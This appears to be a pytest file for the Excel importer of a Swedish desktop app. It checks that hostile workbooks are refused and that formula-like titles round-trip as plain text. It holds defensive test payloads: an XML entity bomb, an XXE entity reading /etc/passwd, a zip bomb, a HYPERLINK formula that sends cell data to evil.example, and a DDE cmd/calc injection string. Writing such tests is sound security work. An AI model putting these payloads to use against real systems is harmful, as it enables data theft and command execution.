"""Hostile files are refused cleanly (defusedxml, size and zip-ratio limits, malformed parts),
formula cells and wrong types are reported per cell, the hostile string corpus survives
export → import, and Hypothesis finds no unhandled exception in the importer."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from samverkan_desktop.db.database import Database
from samverkan_desktop.domain.catalog import AgreementKind, AgreementStatus, OrgKind
from samverkan_desktop.exporters import portfolio_import as imp
from samverkan_desktop.exporters.portfolio_import import ImportFileError, ImportPreview, preview_import
from samverkan_desktop.exporters.portfolio_layout import PORTFOLIO_COLUMNS, TEMPLATE_COLUMNS
from samverkan_desktop.exporters.progress import run_to_end
from samverkan_desktop.exporters.workbook import export_portfolio
from samverkan_desktop.services import Services
from samverkan_desktop.services.agreements import AgreementInput

TODAY = date(2026, 11, 28)


def preview(sv: Services, path: Path) -> ImportPreview:
    return run_to_end(preview_import(sv, path, TODAY))


def _xlsx_bytes(rows: list[list[Any]], title: str = "Portfölj", force_text: bool = True) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = title
    for r, values in enumerate(rows, start=1):
        for c, v in enumerate(values, start=1):
            cell = ws.cell(r, c)
            cell.value = v
            if force_text and isinstance(v, str):
                cell.data_type = "s"  # keep '=…' text as text, as our export does
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _rewrite(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, (replace or {}).get(info.filename, src.read(info.filename)))
        for name, content in (add or {}).items():
            z.writestr(name, content)
    return buf.getvalue()


def test_defusedxml_is_active_and_entities_are_refused(sv: Services, tmp_path: Path) -> None:
    assert openpyxl.xml.DEFUSEDXML is True  # openpyxl parses through defusedxml ...
    from openpyxl.xml import functions

    # ... for every part: with lxml installed openpyxl would parse workbook.xml, styles and rels with
    # lxml instead (entities unresolved, but DTDs accepted), which is why lxml is not a dependency.
    assert functions.fromstring.__module__.startswith("defusedxml")
    assert functions.iterparse.__module__.startswith("defusedxml")
    import defusedxml  # noqa: F401 - a hard dependency (pyproject)

    good = _xlsx_bytes([["Id", "Titel", "Typ"], [None, "&lol;", "projekt"]])
    src = zipfile.ZipFile(io.BytesIO(good))
    sheet = src.read("xl/worksheets/sheet1.xml").decode()
    body = sheet.split("?>", 1)[1] if sheet.startswith("<?xml") else sheet
    bomb = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
            + body)
    path = tmp_path / "billion.xlsx"
    path.write_bytes(_rewrite(good, {"xl/worksheets/sheet1.xml": bomb.encode()}))
    with pytest.raises(ImportFileError, match="otillåtna XML"):
        preview(sv, path)
    external = body.replace("<worksheet", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                                               "<worksheet", 1)
    path.write_bytes(_rewrite(good, {"xl/worksheets/sheet1.xml": external.encode()}))
    with pytest.raises(ImportFileError, match="otillåtna XML"):
        preview(sv, path)


@pytest.mark.parametrize("case", ["ratio", "size", "members", "not_zip", "xls", "encrypted", "no_workbook",
                                  "empty", "directory", "missing", "control_char_xml", "broken_xml", "no_sheet"])
def test_hostile_files_are_refused_with_a_swedish_message(sv: Services, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch, case: str) -> None:
    good = _xlsx_bytes([["Id", "Titel", "Typ"], [None, "Ett", "projekt"]])
    path = tmp_path / "f.xlsx"
    expected = ""
    if case == "ratio":
        path.write_bytes(_rewrite(good, add={"xl/media/zeros.bin": b"\0" * (20 * 1024 * 1024)}))
        expected = "zip-bomb"
    elif case == "size":
        monkeypatch.setattr(imp, "MAX_FILE_BYTES", 1000)
        path.write_bytes(good)
        expected = "högst"
    elif case == "members":
        monkeypatch.setattr(imp, "MAX_MEMBERS", 5)
        path.write_bytes(good)
        expected = "delar"
    elif case == "not_zip":
        path.write_bytes(b"Id;Titel\n1;text\n")
        expected = "ingen Excel-arbetsbok"
    elif case == "xls":
        path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
        expected = ".xls"
    elif case == "encrypted":
        data = bytearray(good)
        data[6] |= 0x1  # the first local header's "encrypted" flag
        offset = bytes(data).rfind(b"PK\x01\x02")
        while offset != -1:
            data[offset + 8] |= 0x1
            offset = bytes(data).rfind(b"PK\x01\x02", 0, offset)
        path.write_bytes(bytes(data))
        expected = "krypterad"
    elif case == "no_workbook":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("hello.txt", "hej")
        path.write_bytes(buf.getvalue())
        expected = "ingen Excel-arbetsbok"
    elif case == "empty":
        path.write_bytes(b"")
        expected = "ingen Excel-arbetsbok"
    elif case == "directory":
        path.mkdir()
        expected = "finns inte"
    elif case == "missing":
        expected = "finns inte"
    elif case == "control_char_xml":
        src = zipfile.ZipFile(io.BytesIO(good))
        sheet = src.read("xl/worksheets/sheet1.xml").decode().replace(">Ett<", ">E&#1;tt<")
        assert "&#1;" in sheet
        path.write_bytes(_rewrite(good, {"xl/worksheets/sheet1.xml": sheet.encode()}))
        expected = "kunde inte läsas"
    elif case == "broken_xml":
        path.write_bytes(_rewrite(good, {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row>"}))
        expected = "kunde inte läsas"
    elif case == "no_sheet":
        path.write_bytes(_xlsx_bytes([["Namn", "Belopp"], ["x", 1]]))
        expected = "rubriken Titel"
    with pytest.raises(ImportFileError, match=expected):
        preview(sv, path)


def test_formula_cells_and_wrong_types_are_reported_per_cell(sv: Services, tmp_path: Path) -> None:
    head = ["Id", "Typ", "Titel", "Start", "Slut", "Budget avtalsmedel", "Budget totalt", "Ingår i (id)"]
    rows = [head,
            [None, "projekt", "=HYPERLINK(\"http://x\")", None, None, None, "=SUM(F2:F3)", None],
            [None, "projekt", "Formel i titel", None, None, None, None, None],
            [None, "projekt", "Bool i start", True, 45000, "12,345 kr", None, 2.5],
            [None, "projekt", "Decimaler", datetime(2027, 1, 1, 13, 30), "2027-12-31", 1.005, None, None],
            [None, "projekt", "Jättebelopp", None, None, 1e20, None, None]]
    wb = Workbook()
    ws = wb.active
    ws.title = "Portfölj"
    for r, values in enumerate(rows, start=1):
        for c, v in enumerate(values, start=1):
            ws.cell(r, c).value = v
    ws["C2"].data_type = "s"  # text that looks like a formula: stays text
    ws["C3"].value = '=CONCAT("a","b")'  # a real formula in an editable column
    path = tmp_path / "t.xlsx"
    wb.save(path)
    p = preview(sv, path)
    got = {(e.row, e.column): (e.severity, e.message) for e in p.problems}
    assert got[(2, "G")][0] == "varning" and "formeln" in got[(2, "G")][1]  # read-only column
    assert got[(3, "C")][0] == "fel" and "formel" in got[(3, "C")][1]
    assert "sanningsvärde" in got[(4, "D")][1]
    assert "ett tal, inte ett datum" in got[(4, "E")][1]
    assert "fler än två decimaler" in got[(4, "F")][1]
    assert "inget heltal" in got[(4, "H")][1]
    assert "fler än två decimaler" in got[(5, "F")][1]
    assert "orimligt stort" in got[(6, "F")][1]
    assert [c.title for c in p.plan.creates] == ['=HYPERLINK("http://x")']
    assert p.plan.creates[0].data.title == '=HYPERLINK("http://x")'


#: Titles for new activities, and what the import makes of them: ("same", None) imported
#: unchanged; ("strip", text) imported as `text` (surrounding whitespace is removed);
#: ("error", part of the message) refused with that message.
TITLES: list[tuple[str, str, str | None]] = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"Klicka")', "same", None),
    ("=cmd|' /C calc'!A0", "same", None),
    ("+SUM(1,2)", "same", None),
    ("-2+3", "same", None),
    ("@SUM(A1:A2)", "same", None),
    ("\t=1+1 tab", "strip", "=1+1 tab"),
    ("\r=1+1 cr", "strip", "=1+1 cr"),
    ("\u202eevil.exe\u202c rtl", "same", None),
    ("decomposed a\u030a", "same", None),
    ("Łukasz Dvořák 😀", "same", None),
    ("\u2400 synlig NUL-symbol", "same", None),
    ("x" * 40_000, "error", "högst 300 tecken"),
    ("innehåller\u0085nästa-rad", "same", None),
]


@pytest.fixture
def hostile_db(sqlite_db: Database) -> Services:
    sv = Services.build(sqlite_db)
    own = sv.people.save_organisation("Kommun", OrgKind.KOMMUN, is_own=True)
    sv.agreements.create(AgreementInput(kind=AgreementKind.SAMVERKANSAVTAL, title="Avtalet", our_organisation_id=own,
                                        start=date(2026, 1, 1), status=AgreementStatus.AKTIVT), TODAY)
    return sv


def test_hostile_corpus_survives_import_export_import(hostile_db: Services, tmp_path: Path) -> None:
    sv = hostile_db
    rows: list[list[Any]] = [["Id", "Typ", "Titel", "Avtal", "Förvaltning/bolag"]]
    for text, _, _ in TITLES:
        rows.append([None, "projekt", text, "Avtalet", text if len(text) < 200 else "kort"])
    path = tmp_path / "in.xlsx"
    path.write_bytes(_xlsx_bytes(rows))
    p = preview(sv, path)
    by_row = {n: t for n, t in enumerate(TITLES, start=2)}
    errors = {e.row: e.message for e in p.errors}
    for row, (text, fate, detail) in by_row.items():
        if fate == "error":
            assert detail in errors[row], (row, errors.get(row))
        else:
            assert row not in errors, (row, errors[row])
    warnings = [w for w in p.warnings if "osynliga styrtecken" in w.message]
    assert {w.row for w in warnings} == {9}  # the RTL override is flagged, in Titel and Förvaltning
    # the file has an error (the 40 000 characters): nothing can be written until it is fixed
    assert not p.can_apply
    long_row = next(r for r, t in by_row.items() if t[1] == "error")
    del rows[long_row - 1]
    path.write_bytes(_xlsx_bytes(rows))
    p = preview(sv, path)
    assert not p.errors
    run_to_end(imp.apply_import(sv, p, TODAY))
    titles = {r.title for r in sv.portfolio.list_rows(TODAY)}
    for text, fate, detail in TITLES:
        if fate == "same":
            assert text in titles, repr(text)
        elif fate == "strip":
            assert detail in titles, repr(detail)
    # export: every hostile title is a text cell, identical to the database, never a formula
    out = tmp_path / "ut.xlsx"
    run_to_end(export_portfolio(sv, out, TODAY))
    ws = load_workbook(out)["Portfölj"]
    head = {c.value: c.column for c in ws[1]}
    exported = {}
    for r in ws.iter_rows(min_row=2):
        if isinstance(r[0].value, int):
            cell = r[head["Titel"] - 1]
            assert cell.data_type == "s"
            exported[r[0].value] = cell.value
    assert exported == {r.id: r.title for r in sv.portfolio.list_rows(TODAY)}
    # and importing the export again changes nothing
    again = preview(sv, out)
    assert not again.errors and not again.has_changes and again.plan.unchanged == len(exported)


# ---- fuzzing -------------------------------------------------------------------------
_cell = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-10**20, max_value=10**20),
    st.floats(allow_nan=True, allow_infinity=True), st.dates(min_value=date(1900, 1, 2)),
    st.datetimes(min_value=datetime(1900, 1, 2), max_value=datetime(9999, 1, 1)),
    st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00\x01\x02\x03\x04\x05\x06\x07\x08"
                          "\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f"),
            max_size=40),
    st.sampled_from(["=1+1", "=SUM(A1:A3)", "projekt", "program", "Avtalet", "2027-01-01", "75 000,50 kr", "-1",
                     "idé/dialog", "pågående", "1", "0", "Summa (synliga rader)"]),
)
_headers = st.lists(st.sampled_from([c.header for c in PORTFOLIO_COLUMNS + TEMPLATE_COLUMNS] + ["Okänd", "", "Id"]),
                    min_size=1, max_size=12)


def _fuzz_book(headers: list[str], rows: list[list[Any]], formulas: bool) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "Portfölj"
    ws.append(["Titel"] + headers)
    for values in rows:
        for c, v in enumerate(values, start=1):
            cell = ws.cell(ws.max_row + (1 if c == 1 else 0), c)
            try:
                cell.value = v
            except (ValueError, TypeError):  # openpyxl refuses some values itself
                cell.value = None
            if not formulas and isinstance(cell.value, str):
                cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@given(headers=_headers, rows=st.lists(st.lists(_cell, min_size=1, max_size=13), max_size=6), formulas=st.booleans())
def test_fuzz_cells_never_raise_unhandled(hostile_db: Services, tmp_path: Path, headers: list[str],
                                          rows: list[list[Any]], formulas: bool) -> None:
    path = tmp_path / "fuzz.xlsx"
    path.write_bytes(_fuzz_book(headers, rows, formulas))
    try:
        p = preview(hostile_db, path)
    except ImportFileError:
        return
    p.report_lines()
    if p.can_apply:  # whatever the planner accepts, the services accept too
        run_to_end(imp.apply_import(hostile_db, p, TODAY))


_VALID = _xlsx_bytes([["Id", "Typ", "Titel", "Start", "Budget avtalsmedel"], [None, "projekt", "A", "2027-01-01", 5]])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@given(data=st.one_of(
    st.binary(max_size=2000),
    st.tuples(st.integers(min_value=0, max_value=len(_VALID) - 1), st.binary(min_size=1, max_size=64)),
    st.lists(st.integers(min_value=0, max_value=len(_VALID) - 1), min_size=1, max_size=30),
))
def test_fuzz_bytes_never_raise_unhandled(hostile_db: Services, tmp_path: Path, data: Any) -> None:
    if isinstance(data, bytes):
        content = data if not data[:2] == b"PK" else data
    elif isinstance(data, tuple):
        pos, junk = data
        content = _VALID[:pos] + junk + _VALID[pos + len(junk):]
    else:
        buf = bytearray(_VALID)
        for pos in data:
            buf[pos] ^= 0xFF
        content = bytes(buf)
    path = tmp_path / "bytes.xlsx"
    path.write_bytes(content)
    try:
        preview(hostile_db, path)
    except ImportFileError as exc:
        assert str(exc) and "Traceback" not in str(exc)
